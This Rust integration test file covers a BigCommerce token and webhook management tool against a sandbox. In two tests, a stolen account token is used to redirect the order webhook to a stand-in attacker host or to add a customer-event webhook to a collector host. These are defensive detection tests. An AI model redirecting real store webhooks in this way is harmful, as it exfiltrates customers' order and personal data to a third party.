//! Storefront tokens and webhooks through the API, against the sandbox over TCP: every token
//! type, rotation, revocation, the crash window between create and record, and webhook create,
//! update, adoption, move on replacement and deletion.

use predicates::prelude::*;

use crate::common::Repo;
use crate::live::Sandbox;

const CONFIG: &str = r#"version: 1
encryption:
  recipients: [RECIPIENT]
stores:
  production:
    store_hash: abc123def4
    api_accounts:
      erp-sync:
        scopes: {orders: read-only}
        webhooks:
          order-created:
            scope: store/order/created
            destination: https://erp.example.com/hooks
            headers: {X-Env: production}
      storefront-issuer:
        scopes: {storefront_api_tokens: modify, storefront_api_customer_impersonation_tokens: modify}
    storefront_tokens:
      web:
        issuer: storefront-issuer
        type: storefront
        channel_ids: [1]
        allowed_cors_origins: [https://shop.example.com]
        lifetime: 90d
        rotate_before: 14d
      server:
        issuer: storefront-issuer
        type: private
        channel_ids: [1, 2]
        access_scopes: [Unauthenticated, Customer]
        lifetime: 30d
      impersonation:
        issuer: storefront-issuer
        type: customer_impersonation
        channel_ids: [1]
        lifetime: 7d
"#;

fn setup() -> (Repo, Sandbox) {
    let sandbox = Sandbox::start("stores: {abc123def4: {quota: 10000, window_ms: 30000}}\n");
    let repo = Repo::new();
    repo.write_config(CONFIG);
    (repo, sandbox)
}

fn bckeys(repo: &Repo, sandbox: &Sandbox) -> assert_cmd::Command {
    repo.bckeys_on(&sandbox.url)
}

fn apply(repo: &Repo, sandbox: &Sandbox) -> assert_cmd::assert::Assert {
    bckeys(repo, sandbox).args(["apply", "--auto-approve", "--sandbox-panel"]).assert()
}

fn tokens(sandbox: &Sandbox) -> Vec<serde_json::Value> {
    let (_, text) = sandbox.panel("GET", "/__sandbox/stores/abc123def4/storefront-tokens", serde_json::Value::Null);
    serde_json::from_str::<serde_json::Value>(&text).unwrap()["data"].as_array().unwrap().clone()
}

fn hooks(sandbox: &Sandbox) -> Vec<serde_json::Value> {
    let (_, text) = sandbox.panel("GET", "/__sandbox/stores/abc123def4/webhooks", serde_json::Value::Null);
    serde_json::from_str::<serde_json::Value>(&text).unwrap()["data"].as_array().unwrap().clone()
}

fn reveal_token(repo: &Repo, sandbox: &Sandbox, name: &str) -> String {
    let out =
        bckeys(repo, sandbox).args(["reveal", &format!("store/production/storefront-token/{name}")]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8(out.stdout).unwrap();
    text.lines().find_map(|l| l.strip_prefix("BIGCOMMERCE_STOREFRONT_TOKEN=")).unwrap().trim_matches('\'').to_owned()
}

#[test]
fn tokens_of_every_type_are_created_recorded_and_revealed() {
    let (repo, sandbox) = setup();
    apply(&repo, &sandbox)
        .code(0)
        .stdout(predicate::str::contains("created store/production/storefront-token/server (expires"));
    let live = tokens(&sandbox);
    assert_eq!(live.len(), 3, "{live:?}");
    let types: Vec<&str> = live.iter().map(|t| t["type"].as_str().unwrap()).collect();
    for t in ["storefront", "private", "customer_impersonation"] {
        assert!(types.contains(&t), "{types:?}");
    }
    let state = repo.read("bckeys.state.yaml");
    assert!(state.contains("kind: storefront_token") && state.contains("expires_at:"));
    assert!(!state.contains("intents:"), "no intent left after a clean run");
    let token = reveal_token(&repo, &sandbox, "web");
    assert!(token.len() > 20 && !state.contains(&token));
    // The plan shows nothing left; the token's expiry is recorded.
    bckeys(&repo, &sandbox).args(["plan", "--detailed-exitcode"]).assert().code(0);
}

#[test]
fn a_changed_token_is_replaced_and_the_old_one_revoked_and_a_removed_one_revoked() {
    let (repo, sandbox) = setup();
    apply(&repo, &sandbox).code(0);
    let before = reveal_token(&repo, &sandbox, "server");
    // `overlap: none`: the previous token goes in the same run.
    let changed = CONFIG
        .replace("channel_ids: [1, 2]", "channel_ids: [1]")
        .replace("lifetime: 30d", "lifetime: 30d\n        overlap: none");
    repo.write_config(&changed);
    bckeys(&repo, &sandbox)
        .args(["plan", "--refresh=false"])
        .assert()
        .success()
        .stdout(predicate::str::contains("~ channel_ids: [1, 2] -> [1]"));
    apply(&repo, &sandbox)
        .code(0)
        .stdout(predicate::str::contains("revoked store/production/storefront-token/server (previous token)"));
    let after = reveal_token(&repo, &sandbox, "server");
    assert_ne!(before, after);
    let revoked = tokens(&sandbox).iter().filter(|t| t["revoked"] == true).count();
    assert_eq!(revoked, 1);

    let without_web = changed
        .replace("RECIPIENT", &repo.recipient)
        .replace("      web:\n        issuer: storefront-issuer\n        type: storefront\n        channel_ids: [1]\n        allowed_cors_origins: [https://shop.example.com]\n        lifetime: 90d\n        rotate_before: 14d\n", "");
    repo.write("bckeys.yaml", &without_web);
    apply(&repo, &sandbox).code(0).stdout(predicate::str::contains("revoked store/production/storefront-token/web"));
    assert!(!repo.path("secrets/store/production/storefront-token/web.age").exists());
    assert_eq!(tokens(&sandbox).iter().filter(|t| t["revoked"] == true).count(), 2);
}

#[test]
fn tokens_are_rotated_inside_their_window() {
    let (repo, sandbox) = setup();
    let short = CONFIG
        .replace("RECIPIENT", &repo.recipient)
        .replace("lifetime: 7d", "lifetime: 60s\n        rotate_before: 58s");
    repo.write("bckeys.yaml", &short);
    apply(&repo, &sandbox).code(0);
    bckeys(&repo, &sandbox).args(["plan", "--detailed-exitcode", "--refresh=false"]).assert().code(0);
    std::thread::sleep(std::time::Duration::from_millis(2100));
    bckeys(&repo, &sandbox)
        .args(["drift"])
        .assert()
        .code(2)
        .stdout(predicate::str::contains("inside its rotation window"));
    bckeys(&repo, &sandbox)
        .args(["plan", "--refresh=false"])
        .assert()
        .success()
        .stdout(predicate::str::contains("-/+ store/production/storefront-token/impersonation replace"))
        .stdout(predicate::str::contains("rotation window"));
    // By default the previous token stays valid until its own expiry: the storefront that uses
    // it has not been redeployed yet.
    let before = reveal_token(&repo, &sandbox, "impersonation");
    apply(&repo, &sandbox)
        .code(0)
        .stdout(predicate::str::contains("the previous token stays valid until"))
        .stdout(predicate::str::contains("(its overlap)"));
    assert_ne!(reveal_token(&repo, &sandbox, "impersonation"), before, "reveal hands out the new one");
    assert_eq!(tokens(&sandbox).iter().filter(|t| t["revoked"] == true).count(), 0);
}

#[test]
fn a_rotated_token_stays_valid_for_its_overlap_and_the_first_apply_after_revokes_it() {
    let (repo, sandbox) = setup();
    let short = CONFIG
        .replace("RECIPIENT", &repo.recipient)
        .replace("lifetime: 7d", "lifetime: 60s\n        rotate_before: 57s\n        overlap: 1h");
    repo.write("bckeys.yaml", &short);
    apply(&repo, &sandbox).code(0);
    std::thread::sleep(std::time::Duration::from_millis(3100));
    let before = reveal_token(&repo, &sandbox, "impersonation");
    apply(&repo, &sandbox).code(0).stdout(predicate::str::contains(
        "store/production/storefront-token/impersonation: the previous token stays valid until",
    ));
    let after = reveal_token(&repo, &sandbox, "impersonation");
    assert_ne!(after, before);
    assert_eq!(tokens(&sandbox).iter().filter(|t| t["revoked"] == true).count(), 0, "revoked during its overlap");
    // An overlap never outlasts the token: an hour is cut to the previous token's expiry.
    let state = repo.read("bckeys.state.yaml");
    let retiring = repo.state().retiring;
    let Some(bckeys::state::Resource::StorefrontToken(previous)) = retiring.values().next() else { panic!("{state}") };
    assert_eq!(previous.retire_after, Some(previous.expires_at), "{state}");

    // Plan and drift show it retiring, with its end date, and nothing to do yet.
    for command in ["plan", "drift"] {
        bckeys(&repo, &sandbox).arg(command).assert().code(0).stdout(predicate::str::contains(
            "store/production/storefront-token/impersonation: the previous token stays valid until",
        ));
    }
    let out = bckeys(&repo, &sandbox).args(["plan", "--format", "json"]).output().unwrap();
    let plan: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(plan["retiring"][0]["address"], "store/production/storefront-token/impersonation", "{plan:#}");
    assert_eq!(plan["has_changes"], false);

    // Once the overlap is over, the first apply revokes it, and only it.
    let until = previous.retire_after.unwrap().to_string();
    let ended = state.replace(&format!("retire_after: {until}"), "retire_after: 2020-01-01T00:00:00Z");
    assert_ne!(ended, state);
    repo.write("bckeys.state.yaml", &ended);
    // A scheduled drift says the previous token outlived its overlap.
    bckeys(&repo, &sandbox)
        .arg("drift")
        .assert()
        .code(2)
        .stdout(predicate::str::contains("its overlap ended at 2020-01-01"));
    bckeys(&repo, &sandbox)
        .args(["plan", "--refresh=false"])
        .assert()
        .success()
        .stdout(predicate::str::contains("revoke the previous token through the API"));
    apply(&repo, &sandbox)
        .code(0)
        .stdout(predicate::str::contains("revoked store/production/storefront-token/impersonation (previous token)"));
    assert_eq!(tokens(&sandbox).iter().filter(|t| t["revoked"] == true).count(), 1);
    assert_eq!(reveal_token(&repo, &sandbox, "impersonation"), after);
    assert!(repo.state().retiring.is_empty());
}

#[test]
fn a_token_created_but_not_recorded_is_reported_not_forgotten() {
    let (repo, sandbox) = setup();
    apply(&repo, &sandbox).code(0);
    // What a run killed between the create call and the record leaves behind.
    let state = repo.read("bckeys.state.yaml");
    let with_intent = state.replace(
        "serial:",
        "intents:\n  store/production/storefront-token/web:\n  - expires_at: 2099-01-01T00:00:00Z\n    started_at: 2026-11-01T00:00:00Z\nserial:",
    );
    repo.write("bckeys.state.yaml", &with_intent);
    bckeys(&repo, &sandbox)
        .args(["plan", "--refresh=false"])
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "a token may have been created at 2026-11-01T00:00:00Z without being recorded",
        ))
        .stdout(predicate::str::contains("2099-01-01T00:00:00Z"));
    // A person who looked into it dismisses it; the plan stops reporting it.
    let serial = |text: String| text.lines().find_map(|l| l.strip_prefix("serial: ").map(str::to_owned)).unwrap();
    let before = serial(repo.read("bckeys.state.yaml"));
    bckeys(&repo, &sandbox)
        .args([
            "state",
            "dismiss-intent",
            "store/production/storefront-token/web",
            "--started-at",
            "2026-11-01T00:00:00Z",
        ])
        .assert()
        .success()
        .stdout(predicate::str::contains("stays valid until 2099-01-01T00:00:00Z"));
    let state = repo.read("bckeys.state.yaml");
    assert!(!state.contains("intents:"), "{state}");
    assert_eq!(serial(state).parse::<u64>().unwrap(), before.parse::<u64>().unwrap() + 1);
    bckeys(&repo, &sandbox)
        .args(["plan", "--refresh=false"])
        .assert()
        .success()
        .stdout(predicate::str::contains("may have been created").not());
    bckeys(&repo, &sandbox)
        .args(["state", "dismiss-intent", "store/production/storefront-token/web"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("no intent is recorded"));
}

#[test]
fn webhooks_are_created_updated_adopted_moved_and_deleted() {
    let (repo, sandbox) = setup();
    apply(&repo, &sandbox)
        .code(0)
        .stdout(predicate::str::contains("created store/production/erp-sync/webhook/order-created"));
    assert_eq!(hooks(&sandbox).len(), 1);
    // Idempotent: nothing to do, nothing duplicated.
    apply(&repo, &sandbox).code(0);
    assert_eq!(hooks(&sandbox).len(), 1);

    // A changed destination is updated in place.
    let moved = CONFIG
        .replace("RECIPIENT", &repo.recipient)
        .replace("https://erp.example.com/hooks", "https://erp2.example.com/hooks");
    repo.write("bckeys.yaml", &moved);
    bckeys(&repo, &sandbox).args(["plan", "--refresh=false"]).assert().stdout(predicate::str::contains(
        "~ destination: https://erp.example.com/hooks -> https://erp2.example.com/hooks",
    ));
    apply(&repo, &sandbox)
        .code(0)
        .stdout(predicate::str::contains("updated store/production/erp-sync/webhook/order-created"));
    let live = hooks(&sandbox);
    assert_eq!(live.len(), 1);
    assert_eq!(live[0]["destination"], "https://erp2.example.com/hooks");

    // A hook that exists but was never recorded is adopted, not duplicated.
    let state = repo.read("bckeys.state.yaml");
    let start = state.find("  store/production/erp-sync/webhook/order-created:").unwrap();
    let end = state[start + 3..].find("\n  store/").map(|i| start + 3 + i + 1).unwrap();
    repo.write("bckeys.state.yaml", &format!("{}{}", &state[..start], &state[end..]));
    apply(&repo, &sandbox)
        .code(0)
        .stdout(predicate::str::contains("adopted store/production/erp-sync/webhook/order-created"));
    assert_eq!(hooks(&sandbox).len(), 1);

    // A scope change of the owner moves its webhook to the new account first.
    let replaced = moved.replace("scopes: {orders: read-only}", "scopes: {orders: read-only, products: read-only}");
    repo.write("bckeys.yaml", &replaced);
    let old_client = hooks(&sandbox)[0]["client_id"].as_str().unwrap().to_owned();
    apply(&repo, &sandbox)
        .code(0)
        .stdout(predicate::str::contains("deleted store/production/erp-sync (previous account)"));
    let live = hooks(&sandbox);
    assert_eq!(live.len(), 1, "{live:?}");
    assert_ne!(live[0]["client_id"].as_str().unwrap(), old_client, "the webhook belongs to the new account");

    // Removed from the configuration: deleted through the API.
    let start = replaced.find("        webhooks:").unwrap();
    let end = replaced.find("      storefront-issuer:").unwrap();
    repo.write("bckeys.yaml", &format!("{}{}", &replaced[..start], &replaced[end..]));
    apply(&repo, &sandbox)
        .code(0)
        .stdout(predicate::str::contains("deleted store/production/erp-sync/webhook/order-created"));
    assert!(hooks(&sandbox).is_empty());
}

#[test]
fn generated_header_secrets_are_encrypted_sent_masked_and_revealed() {
    let (repo, sandbox) = setup();
    let config = CONFIG
        .replace("RECIPIENT", &repo.recipient)
        .replace("headers: {X-Env: production}", "headers: {X-Env: production, X-Webhook-Secret: {secret: generate}}");
    repo.write("bckeys.yaml", &config);
    bckeys(&repo, &sandbox)
        .args(["plan", "--refresh=false"])
        .assert()
        .success()
        .stdout(predicate::str::contains("+ headers.X-Webhook-Secret: (sensitive)"));
    apply(&repo, &sandbox).code(0);
    let live = hooks(&sandbox);
    assert_eq!(live[0]["headers"], serde_json::json!(["X-Env", "X-Webhook-Secret"]));
    let state = repo.read("bckeys.state.yaml");
    assert!(state.contains("generated_headers:") && state.contains("- X-Webhook-Secret"), "{state}");
    let reveal = |repo: &Repo| {
        let out = bckeys(repo, &sandbox)
            .args(["reveal", "store/production/erp-sync/webhook/order-created"])
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let text = String::from_utf8(out.stdout).unwrap();
        text.lines()
            .find_map(|l| l.strip_prefix("BIGCOMMERCE_WEBHOOK_HEADER_X_WEBHOOK_SECRET="))
            .unwrap()
            .trim_matches('\'')
            .to_owned()
    };
    let value = reveal(&repo);
    assert_eq!(value.len(), 64, "32 random bytes as hex: {value}");
    assert!(value.chars().all(|c| c.is_ascii_hexdigit()));
    assert!(!state.contains(&value));
    // The value never shows in a plan, and stays the same across runs.
    let plan = bckeys(&repo, &sandbox).args(["plan", "--format", "json"]).output().unwrap();
    assert!(!String::from_utf8_lossy(&plan.stdout).contains(&value));
    apply(&repo, &sandbox).code(0);
    assert_eq!(reveal(&repo), value);
}

#[test]
fn a_deactivated_webhook_is_reported_and_reactivated() {
    let (repo, sandbox) = setup();
    apply(&repo, &sandbox).code(0);
    let id = hooks(&sandbox)[0]["id"].as_u64().unwrap();
    let (status, _) = sandbox.panel("POST", &format!("/__sandbox/webhooks/{id}/deactivate"), serde_json::Value::Null);
    assert_eq!(status, 200);
    bckeys(&repo, &sandbox)
        .arg("drift")
        .assert()
        .code(2)
        .stdout(predicate::str::contains(format!("BigCommerce deactivated webhook {id}")));
    bckeys(&repo, &sandbox).arg("plan").assert().success().stdout(predicate::str::contains("reactivate it"));
    apply(&repo, &sandbox)
        .code(0)
        .stdout(predicate::str::contains("reactivated store/production/erp-sync/webhook/order-created"));
    assert_eq!(hooks(&sandbox)[0]["status"], "active");
    bckeys(&repo, &sandbox).arg("drift").assert().code(0);
}

#[test]
fn a_webhook_changed_behind_bckeys_back_is_a_security_finding_and_apply_puts_it_back() {
    let (repo, sandbox) = setup();
    apply(&repo, &sandbox).code(0);
    let id = hooks(&sandbox)[0]["id"].as_u64().unwrap();
    // Someone with the account's token sends the store's orders elsewhere.
    let token = erp_token(&repo, &sandbox);
    let (status, text) = sandbox.api(
        "PUT",
        &format!("/v3/hooks/{id}"),
        &token,
        serde_json::json!({"destination": "https://attacker.example.net/collect"}),
    );
    assert_eq!(status, 200, "{text}");

    let out = bckeys(&repo, &sandbox).args(["drift", "--format", "json"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let finding = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["finding"] == "webhook_destination_changed")
        .unwrap_or_else(|| panic!("{report:#}"))
        .clone();
    assert_eq!(finding["severity"], "security");
    // Shown by its host and a digest: a destination someone else set may hold a secret.
    let detail = finding["detail"].as_str().unwrap();
    assert!(detail.contains("https://attacker.example.net/… (sha256 ") && !detail.contains("/collect"), "{detail}");
    bckeys(&repo, &sandbox).arg("plan").assert().success().stdout(predicate::str::contains("put it back"));
    let state = repo.read("bckeys.state.yaml");
    apply(&repo, &sandbox).code(0);
    assert_eq!(hooks(&sandbox)[0]["destination"], "https://erp.example.com/hooks");
    // What bckeys records did not change: the state file is not rewritten, its serial stays.
    assert_eq!(repo.read("bckeys.state.yaml"), state);
    bckeys(&repo, &sandbox).arg("drift").assert().code(0);
}

/// The access token of erp-sync, as someone holding it would use it.
fn erp_token(repo: &Repo, sandbox: &Sandbox) -> String {
    let out = bckeys(repo, sandbox).args(["reveal", "store/production/erp-sync"]).output().unwrap();
    let env = String::from_utf8(out.stdout).unwrap();
    env.lines().find_map(|l| l.strip_prefix("BIGCOMMERCE_ACCESS_TOKEN=")).unwrap().trim_matches('\'').to_owned()
}

fn drift_findings(repo: &Repo, sandbox: &Sandbox) -> Vec<serde_json::Value> {
    let out = bckeys(repo, sandbox).args(["drift", "--format", "json"]).output().unwrap();
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    report["findings"].as_array().unwrap().clone()
}

#[test]
fn headers_changed_behind_bckeys_back_are_found_without_showing_values_and_put_back() {
    let (repo, sandbox) = setup();
    repo.write_config(
        &CONFIG
            .replace("headers: {X-Env: production}", "headers: {X-Env: production, X-Signature: {secret: generate}}"),
    );
    apply(&repo, &sandbox).code(0);
    let id = hooks(&sandbox)[0]["id"].as_u64().unwrap();
    let token = erp_token(&repo, &sandbox);
    let forged = "forged-signature-value-1234";
    let body = serde_json::json!({"headers": {"X-Env": "production", "X-Signature": forged, "X-Extra": "yes"}});
    let (status, text) = sandbox.api("PUT", &format!("/v3/hooks/{id}"), &token, body);
    assert_eq!(status, 200, "{text}");

    let findings = drift_findings(&repo, &sandbox);
    let kinds: Vec<&str> = findings.iter().map(|f| f["finding"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["webhook_headers_changed"], "{findings:#?}");
    let detail = findings[0]["detail"].as_str().unwrap();
    assert!(detail.contains("X-Signature changed") && detail.contains("X-Extra added"), "{detail}");
    assert!(!detail.contains(forged) && !detail.contains("yes"), "{detail}");
    let out = bckeys(&repo, &sandbox).arg("drift").output().unwrap();
    assert!(!String::from_utf8_lossy(&out.stdout).contains(forged));

    bckeys(&repo, &sandbox).arg("plan").assert().success().stdout(predicate::str::contains("put them back"));
    apply(&repo, &sandbox).code(0);
    let (_, text) = sandbox.api("GET", &format!("/v3/hooks/{id}"), &token, serde_json::Value::Null);
    let headers = serde_json::from_str::<serde_json::Value>(&text).unwrap()["data"]["headers"].clone();
    assert_eq!(headers["X-Env"], "production", "{text}");
    assert_ne!(headers["X-Signature"], forged);
    assert!(headers.get("X-Extra").is_none(), "{headers}");
    bckeys(&repo, &sandbox).arg("drift").assert().code(0);
}

#[test]
fn a_configuration_change_is_planned_not_reported_as_changed_behind_bckeys_back() {
    let (repo, sandbox) = setup();
    apply(&repo, &sandbox).code(0);
    repo.write_config(&CONFIG.replace("https://erp.example.com/hooks", "https://erp2.example.com/hooks"));
    let findings = drift_findings(&repo, &sandbox);
    assert!(findings.iter().all(|f| f["severity"] != "security"), "{findings:#?}");
    bckeys(&repo, &sandbox)
        .arg("plan")
        .assert()
        .success()
        .stdout(predicate::str::contains("update the webhook through the API"));
}

#[test]
fn unmanaged_webhooks_are_reported_and_pruned_only_when_the_account_says_so() {
    let (repo, sandbox) = setup();
    apply(&repo, &sandbox).code(0);
    let token = erp_token(&repo, &sandbox);
    let body = serde_json::json!({"scope": "store/customer/*", "destination": "https://collector.example.net/x", "is_active": true});
    let (status, text) = sandbox.api("POST", "/v3/hooks", &token, body);
    assert_eq!(status, 200, "{text}");
    let id: u64 = serde_json::from_str::<serde_json::Value>(&text).unwrap()["data"]["id"].as_u64().unwrap();

    // Reported, as drift: the integration may register webhooks of its own.
    let findings = drift_findings(&repo, &sandbox);
    assert_eq!(findings.len(), 1, "{findings:#?}");
    assert_eq!(findings[0]["finding"], "webhook_unmanaged");
    assert_eq!(findings[0]["severity"], "drift");
    assert_eq!(findings[0]["address"], "store/production/erp-sync");
    assert_eq!(findings[0]["webhook_id"], id);
    assert!(findings[0]["detail"].as_str().unwrap().contains("https://collector.example.net/… (sha256 "));
    // Without prune_webhooks apply leaves it alone.
    apply(&repo, &sandbox).code(0);
    assert_eq!(hooks(&sandbox).len(), 2);

    // With it, the configuration claims every webhook of the account: a security finding, and
    // apply deletes it (from a saved plan too), leaving the managed one.
    repo.write_config(&CONFIG.replace("        webhooks:\n", "        prune_webhooks: true\n        webhooks:\n"));
    let findings = drift_findings(&repo, &sandbox);
    assert_eq!(findings[0]["severity"], "security", "{findings:#?}");
    bckeys(&repo, &sandbox).args(["plan", "--out", "plan.json"]).assert().success();
    let plan: serde_json::Value = serde_json::from_str(&repo.read("plan.json")).unwrap();
    let prune = plan["actions"].as_array().unwrap().iter().find(|a| a["webhook_id"] == id).unwrap().clone();
    assert_eq!((prune["action"].as_str(), prune["mode"].as_str()), (Some("delete"), Some("automated")), "{prune:#}");
    bckeys(&repo, &sandbox)
        .args(["apply", "--auto-approve", "--sandbox-panel=true", "plan.json"])
        .assert()
        .code(0)
        .stdout(predicate::str::contains(format!("deleted unmanaged webhook {id}")));
    let left = hooks(&sandbox);
    assert_eq!(left.len(), 1, "{left:#?}");
    assert_eq!(left[0]["destination"], "https://erp.example.com/hooks");
    bckeys(&repo, &sandbox).arg("drift").assert().code(0);
}

/// A webhook re-created by hand (same scope and destination, new ID) is adopted, never pruned.
#[test]
fn a_recreated_webhook_is_adopted_not_pruned() {
    let (repo, sandbox) = setup();
    let pruning = CONFIG.replace("        webhooks:\n", "        prune_webhooks: true\n        webhooks:\n");
    repo.write_config(&pruning);
    apply(&repo, &sandbox).code(0);
    let old = hooks(&sandbox)[0]["id"].as_u64().unwrap();
    let token = erp_token(&repo, &sandbox);
    let (status, _) = sandbox.api("DELETE", &format!("/v3/hooks/{old}"), &token, serde_json::Value::Null);
    assert_eq!(status, 200);
    let body = serde_json::json!({"scope": "store/order/created", "destination": "https://erp.example.com/hooks", "is_active": true, "headers": {"X-Env": "production"}});
    let (status, text) = sandbox.api("POST", "/v3/hooks", &token, body);
    assert_eq!(status, 200, "{text}");
    let new: u64 = serde_json::from_str::<serde_json::Value>(&text).unwrap()["data"]["id"].as_u64().unwrap();

    let kinds: Vec<String> =
        drift_findings(&repo, &sandbox).iter().map(|f| f["finding"].as_str().unwrap().to_owned()).collect();
    assert_eq!(kinds, ["webhook_missing"], "the new one is the declared one, not an unmanaged one");
    apply(&repo, &sandbox).code(0);
    let left = hooks(&sandbox);
    assert_eq!(left.len(), 1, "{left:#?}");
    assert_eq!(left[0]["id"], new);
    let address = "store/production/erp-sync/webhook/order-created".parse().unwrap();
    let Some(bckeys::state::Resource::Webhook(w)) = repo.state().resources.get(&address).cloned() else { panic!() };
    assert_eq!(w.id, new);
    bckeys(&repo, &sandbox).arg("drift").assert().code(0);
}

/// A previous token in its overlap is revoked at once when the configuration says
/// `overlap: none`, and when it drops the token.
#[test]
fn the_configuration_can_end_an_overlap() {
    let (repo, sandbox) = setup();
    apply(&repo, &sandbox).code(0);
    let revoked = || tokens(&sandbox).iter().filter(|t| t["revoked"] == true).count();
    let plan_says = |why: &str| {
        bckeys(&repo, &sandbox)
            .args(["plan", "--refresh=false"])
            .assert()
            .success()
            .stdout(predicate::str::contains(why.to_owned()));
    };
    let revokes_previous = || {
        apply(&repo, &sandbox)
            .code(0)
            .stdout(predicate::str::contains("revoked store/production/storefront-token/server (previous token)"));
        assert!(repo.state().retiring.is_empty());
    };

    // Rotated (its channels change): the previous token stays, by default until its expiry.
    let rotated = CONFIG.replace("channel_ids: [1, 2]", "channel_ids: [2]");
    repo.write_config(&rotated);
    apply(&repo, &sandbox).code(0).stdout(predicate::str::contains("the previous token stays valid until"));
    assert_eq!(revoked(), 0);
    repo.write_config(&rotated.replace("lifetime: 30d", "lifetime: 30d\n        overlap: none"));
    plan_says("since the configuration says `overlap: none`");
    revokes_previous();
    assert_eq!(revoked(), 1);

    // Rotated again, then dropped from the configuration: both go.
    repo.write_config(CONFIG);
    apply(&repo, &sandbox).code(0).stdout(predicate::str::contains("the previous token stays valid until"));
    let start = CONFIG.find("      server:").unwrap();
    let end = CONFIG.find("      impersonation:").unwrap();
    repo.write_config(&format!("{}{}", &CONFIG[..start], &CONFIG[end..]));
    plan_says("since the configuration no longer declares it");
    revokes_previous();
    assert_eq!(revoked(), 3, "the previous token and the current one");
}

/// A lost header file is drift (exit 2), a file to restore, not a check that failed (exit 1).
#[test]
fn a_missing_header_file_is_drift_not_a_failed_check() {
    let (repo, sandbox) = setup();
    repo.write_config(
        &CONFIG
            .replace("headers: {X-Env: production}", "headers: {X-Env: production, X-Signature: {secret: generate}}"),
    );
    apply(&repo, &sandbox).code(0);
    std::fs::remove_file(repo.path("secrets/store/production/erp-sync/webhook/order-created.age")).unwrap();
    let out = bckeys(&repo, &sandbox).args(["drift", "--format", "json"]).output().unwrap();
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(out.status.code(), Some(2), "{report:#}");
    assert_eq!(report["findings"][0]["finding"], "secret_file_missing");
    assert!(report["errors"].as_array().unwrap().is_empty(), "{report:#}");
}

/// `--replace` rotates a token, regenerates a webhook's header secret, or replaces an API
/// account on purpose; `--target` plans only what is named, and says the rest was not looked at.
#[test]
fn replace_and_target_on_request() {
    let (repo, sandbox) = setup();
    repo.write_config(
        &CONFIG
            .replace("headers: {X-Env: production}", "headers: {X-Env: production, X-Signature: {secret: generate}}"),
    );
    apply(&repo, &sandbox).code(0);
    let hook = "store/production/erp-sync/webhook/order-created";
    let signature = || {
        let out = bckeys(&repo, &sandbox)
            .args(["reveal", hook, "--field", "BIGCOMMERCE_WEBHOOK_HEADER_X_SIGNATURE"])
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).unwrap()
    };
    let (web, before) = ("store/production/storefront-token/web", signature());
    let token = reveal_token(&repo, &sandbox, "web");

    bckeys(&repo, &sandbox)
        .args(["plan", "--replace", web, "--replace", hook])
        .assert()
        .success()
        .stdout(predicate::str::contains("rotated on request (--replace)"))
        .stdout(predicate::str::contains("regenerate its header secrets on request (--replace)"));
    // An account replaced on purpose takes its webhooks with it.
    bckeys(&repo, &sandbox)
        .args(["plan", "--replace", "store/production/erp-sync"])
        .assert()
        .success()
        .stdout(predicate::str::contains("replaced on request (--replace)"))
        .stdout(predicate::str::contains("it moves to the new `erp-sync`"));
    bckeys(&repo, &sandbox)
        .args(["apply", "--auto-approve", "--sandbox-panel", "--replace", web, "--replace", hook])
        .assert()
        .code(0)
        .stdout(predicate::str::contains("the previous token stays valid until"));
    assert_ne!(reveal_token(&repo, &sandbox, "web"), token);
    let after = signature();
    assert!(!after.is_empty() && after != before, "a new header secret");
    let id = hooks(&sandbox)[0]["id"].as_u64().unwrap();
    let (_, text) =
        sandbox.api("GET", &format!("/v3/hooks/{id}"), &erp_token(&repo, &sandbox), serde_json::Value::Null);
    assert!(text.contains(&after), "BigCommerce sends the new value");

    // What can't be replaced is refused, with what to do.
    for (address, why) in [
        ("store/production/nothing", "it is not recorded"),
        ("store/production/erp-sync/webhook/nope", "it is not recorded"),
    ] {
        bckeys(&repo, &sandbox)
            .args(["plan", "--replace", address])
            .assert()
            .code(1)
            .stderr(predicate::str::contains(why));
    }

    // Two changes pending; a target plans one of them.
    repo.write_config(
        &CONFIG
            .replace("headers: {X-Env: production}", "headers: {X-Env: staging, X-Signature: {secret: generate}}")
            .replace("channel_ids: [1, 2]", "channel_ids: [2]"),
    );
    let out = bckeys(&repo, &sandbox).args(["plan", "--target", "store/production/storefront-token"]).output().unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("Planned only for store/production/storefront-token (--target)"), "{text}");
    assert!(text.contains("store/production/storefront-token/server replace"), "{text}");
    assert!(!text.contains("webhook/order-created"), "{text}");
    bckeys(&repo, &sandbox)
        .args(["plan", "--target", "store/staging"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("--target store/staging: no address is, or is under, it"));
}

/// A store relabelled (same store hash) is the same store: its accounts, webhooks and tokens
/// move, with no guided step and no new credential.
#[test]
fn a_relabelled_store_is_moved_not_replaced() {
    let (repo, sandbox) = setup();
    apply(&repo, &sandbox).code(0);
    let token = reveal_token(&repo, &sandbox, "web");
    let created = tokens(&sandbox).len();
    repo.write_config(&CONFIG.replace("  production:\n", "  prod:\n"));
    let plan = bckeys(&repo, &sandbox).args(["plan", "--refresh=false"]).output().unwrap();
    let text = String::from_utf8(plan.stdout).unwrap();
    insta::assert_snapshot!("relabel_plan", text);
    assert!(!text.contains("guided:"), "no guided step: {text}");

    apply(&repo, &sandbox)
        .code(0)
        .stdout(predicate::str::contains("moved store/production/erp-sync to store/prod/erp-sync"));
    let state = repo.state();
    assert!(state.resources.keys().all(|a| a.to_string().starts_with("store/prod/")), "{state:?}");
    assert_eq!(state.resources.len(), 6);
    assert!(
        !repo.path("secrets/store/production").exists()
            || std::fs::read_dir(repo.path("secrets/store/production")).unwrap().all(|e| e.unwrap().path().is_dir())
    );
    let out = bckeys(&repo, &sandbox)
        .args(["reveal", "store/prod/storefront-token/web", "--field", "BIGCOMMERCE_STOREFRONT_TOKEN"])
        .output()
        .unwrap();
